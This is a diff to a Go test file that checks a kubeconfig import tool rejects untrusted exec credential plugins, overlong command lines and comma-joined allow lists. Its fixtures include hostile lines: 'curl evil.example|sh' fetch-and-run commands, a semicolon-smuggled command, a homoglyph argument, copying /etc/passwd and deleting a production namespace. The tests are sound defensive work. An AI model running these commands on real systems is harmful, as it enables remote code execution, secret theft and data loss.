@@ -80,10 +80,13 @@ func TestHostileEntries(t *testing.T) {
 		cluster *v1beta1.Cluster
 		text    string
 	}{
-		{"any program", cluster("east", "https://e.example", execOf("sh", "-c", "curl evil.example|sh")), `it would run "sh -c curl evil.example|sh", which is not a known plugin; if you trust it, use --allow-exec=sh`},
-		{"a known name at a path", cluster("east", "https://e.example", execOf("/tmp/aws", "eks", "get-token", "--cluster-name=x")), `it would run "/tmp/aws eks get-token --cluster-name=x", which is not a known plugin; if you trust it, use --allow-exec=/tmp/aws`},
+		{"any program", cluster("east", "https://e.example", execOf("sh", "-c", "curl evil.example|sh")), `it would run sh -c "curl evil.example|sh", which is not a known plugin; if you trust it, use --allow-exec=sh`},
+		{"a known name at a path", cluster("east", "https://e.example", execOf("/tmp/aws", "eks", "get-token", "--cluster-name=x")), `it would run /tmp/aws eks get-token --cluster-name=x, which is not a known plugin; if you trust it, use --allow-exec=/tmp/aws`},
 		{"a known name in the directory of the kubeconfig", cluster("east", "https://e.example", execOf("./aws")), `which is not a known plugin`},
 		{"a known name with another case", cluster("east", "https://e.example", execOf("AWS", "eks", "get-token")), `which is not a known plugin`},
+		{"a command for the shell of who allows it", cluster("east", "https://e.example", execOf("x;curl evil.example|sh")), `it would run "x;curl evil.example|sh", which is not a known plugin` + "\n"},
+		{"a command that is a flag", cluster("east", "https://e.example", execOf("--merge=x")), `it would run --merge=x, which is not a known plugin` + "\n"},
+		{"two arguments that look like one", cluster("east", "https://e.example", execOf("corp", "--to east", "\u0435ast")), `it would run corp "--to east" "\u0435ast", which`},
 		{"another subcommand", cluster("east", "https://e.example", execOf("aws", "s3", "cp", "/etc/passwd")), `aws is run as "aws eks get-token", and not with "s3 cp /etc/passwd"`},
 		{"a further subcommand", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "delete", "--cluster-name=x")), `and not with "eks get-token delete"`},
 		{"kubectl itself", cluster("east", "https://e.example", execOf("kubectl", "delete", "ns", "prod")), `kubectl is run as "kubectl oidc-login get-token", and not with "delete ns prod"`},
@@ -127,6 +130,22 @@ func TestHostileEntries(t *testing.T) {
 		if err != nil || len(config.Clusters)+len(config.AuthInfos)+len(config.Contexts) > 0 {
 			t.Errorf("%s: the kubeconfig has %+v, %v", test.reason, config, err)
 		}
+	}
+}
+
+// TestLongCommandLine expects that no one is asked to agree to more than they read.
+func TestLongCommandLine(t *testing.T) {
+	env := commandtest.New(t, cluster("east", "https://e.example", execOf("corp-login", strings.Repeat("x ", maxCommandLine/2))))
+	if _, code := env.Run(t, newCommand(env), "east", "--allow-exec=corp-login"); code != 4 || !strings.Contains(env.Stderr.String(), "its command line has 2061 bytes, more than a person checks (2048)") {
+		t.Errorf("%d\n%s", code, env.Stderr)
+	}
+}
+
+// TestAllowedCommands expects that a comma does not make two commands of one.
+func TestAllowedCommands(t *testing.T) {
+	env := commandtest.New(t, cluster("east", "https://e.example", execOf("sh")))
+	if _, code := env.Run(t, newCommand(env), "east", "--allow-exec=corp-login,sh"); code != 4 || !strings.Contains(env.Stderr.String(), "it would run sh, which is not a known plugin") {
+		t.Errorf("%d\n%s", code, env.Stderr)
 	}
 }
 
@@ -196,6 +215,9 @@ func TestConfirmation(t *testing.T) {
 	}
 	if _, text, code := run(before, "", "--accept="+accepted); code != 0 || !strings.Contains(written(), "server: https://e.example") {
 		t.Errorf("the digest: %d, %s", code, text)
+	}
+	if env, text, code := run(before, "", "--accept="+accepted); code != 0 || !strings.Contains(env.Stdout.String(), "0 new or changed, 1 unchanged, 0 removed") {
+		t.Errorf("the digest again: %d, %s, %s", code, text, env.Stdout)
 	}
 	if env, text, code := run(before, ""); code != 0 || !strings.Contains(env.Stdout.String(), "0 new or changed, 1 unchanged, 0 removed") {
 		t.Errorf("again: %d, %s, %s", code, text, env.Stdout)
